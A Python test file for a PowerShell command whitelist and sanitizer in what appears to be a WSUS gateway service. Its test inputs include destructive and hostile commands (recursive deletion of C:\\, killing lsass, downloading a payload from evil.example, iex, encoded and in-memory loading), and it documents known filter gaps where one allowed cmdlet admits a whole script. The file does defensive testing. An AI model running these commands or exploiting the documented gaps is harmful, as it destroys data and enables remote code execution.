"""Tests for the PowerShell command whitelist and sanitizer."""

from __future__ import annotations

from wsus_gateway.services.command_filter import (
    check_command,
    is_allowed,
    normalize,
    sanitize,
)


# ── Whitelist: invocation contexts ───────────────────────────────────────

class TestWhitelistContexts:
    def test_start_of_script_allowed(self):
        assert is_allowed("Get-WsusServer -Name localhost -PortNumber 8530")

    def test_after_pipe_allowed(self):
        assert is_allowed("$x | ConvertTo-Json -Compress")

    def test_after_semicolon_allowed(self):
        assert is_allowed("$a = 1; Get-Service -Name W3SVC")

    def test_after_assignment_allowed(self):
        assert is_allowed("$wsus = Get-WsusServer")

    def test_after_paren_allowed(self):
        assert is_allowed("(Get-WsusUpdate -UpdateServer $wsus).Count")

    def test_after_brace_allowed(self):
        assert is_allowed("try { Import-Module SqlServer } catch { }")

    def test_after_newline_allowed(self):
        assert is_allowed("$x = 1\nGet-PSDrive C")

    def test_case_insensitive(self):
        assert is_allowed("get-wsusserver")

    def test_whitespace_runs_collapsed(self):
        assert is_allowed("   Get-Service\t\t-Name   W3SVC   ")

    def test_name_must_end_at_token_boundary(self):
        assert not is_allowed("Get-ServiceX -Name foo")

    def test_name_inside_argument_rejected(self):
        assert not is_allowed("Write-Host Get-Service")

    def test_unknown_cmdlet_rejected(self):
        assert not is_allowed("Get-Random")


# ── Whitelist: dangerous commands ────────────────────────────────────────

class TestWhitelistDenied:
    def test_remove_item_rejected(self):
        assert not is_allowed("Remove-Item -Recurse C:\\")

    def test_stop_process_rejected(self):
        assert not is_allowed("Stop-Process -Name lsass -Force")

    def test_start_process_rejected(self):
        assert not is_allowed("Start-Process cmd.exe")

    def test_invoke_webrequest_rejected(self):
        assert not is_allowed("Invoke-WebRequest http://evil.example/payload.ps1")

    def test_add_type_rejected(self):
        assert not is_allowed("Add-Type -TypeDefinition $src")

    def test_empty_rejected(self):
        assert not is_allowed("")
        assert not is_allowed("   ")


# ── Whitelist: safe assignment templates ─────────────────────────────────

class TestSafeAssignments:
    def test_pscustomobject_literal(self):
        assert is_allowed("[PSCustomObject]@{ Name = 'x' }")

    def test_params_hashtable(self):
        assert is_allowed("$params = @{ Name = 'WsusService' }")

    def test_stats_object(self):
        assert is_allowed("$stats = [PSCustomObject]@{}")

    def test_bare_config_assignment_rejected(self):
        assert not is_allowed("$config = 'x'")


# ── Known limitation: string literals are not parsed ─────────────────────

class TestStringLiteralGap:
    def test_name_inside_quoted_string_still_matches(self):
        # A cmdlet name after "(" inside a literal is indistinguishable from
        # an invocation without a parser.
        assert is_allowed("Write-Host '(Get-Service)'")

    def test_one_invocation_admits_whole_script(self):
        assert is_allowed("Get-Service; Remove-Item C:\\temp\\x")


# ── check_command ────────────────────────────────────────────────────────

class TestCheckCommand:
    def test_valid(self):
        result = check_command("Get-Service")
        assert result.valid
        assert result.reason is None

    def test_rejection_reason(self):
        result = check_command("Format-Volume -DriveLetter C")
        assert not result.valid
        assert result.reason == "Command not whitelisted for security"

    def test_empty_reason(self):
        assert check_command("").reason == "empty command"


# ── Sanitizer ────────────────────────────────────────────────────────────

class TestSanitize:
    def test_strips_invoke_expression(self):
        assert "Invoke-Expression" not in sanitize("Get-Service | Invoke-Expression")

    def test_strips_iex_word_only(self):
        out = sanitize("Get-Service; iex $payload; Get-Process complex")
        assert " iex " not in out
        assert "complex" in out

    def test_strips_download_calls(self):
        out = sanitize("$c.DownloadString('http://x'); $c.DownloadFile('http://y', 'z')")
        assert ".DownloadString(" not in out
        assert ".DownloadFile(" not in out

    def test_strips_hidden_window(self):
        assert "Hidden" not in sanitize("Get-Service -WindowStyle Hidden")

    def test_strips_encoded_payload_markers(self):
        out = sanitize(
            "[System.Convert]::FromBase64String($b); -EncodedCommand abc; -enc abc",
        )
        assert "FromBase64String" not in out
        assert "-EncodedCommand" not in out
        assert "-enc " not in out

    def test_strips_in_memory_loading(self):
        out = sanitize("[System.IO.MemoryStream]::new(); [System.Reflection.Assembly]::Load($b)")
        assert "MemoryStream" not in out
        assert "Assembly]::Load" not in out

    def test_strips_null_and_bell_escapes(self):
        assert sanitize("Write-Output \"a`0b`ac\"") == 'Write-Output "abc"'

    def test_escaped_backtick_preserved(self):
        assert sanitize('Write-Output "``a"') == 'Write-Output "``a"'

    def test_preserves_pipes_and_variables(self):
        cmd = "$wsus = Get-WsusServer; Get-WsusComputer -UpdateServer $wsus | ConvertTo-Json"
        assert sanitize(cmd) == cmd

    def test_case_insensitive(self):
        assert "INVOKE-EXPRESSION" not in sanitize("Get-Service | INVOKE-EXPRESSION")

    def test_empty(self):
        assert sanitize("") == ""

    def test_result_stripped(self):
        assert sanitize("  Get-Service  ") == "Get-Service"


def test_normalize():
    assert normalize("  a \n\t b  ") == "a b"
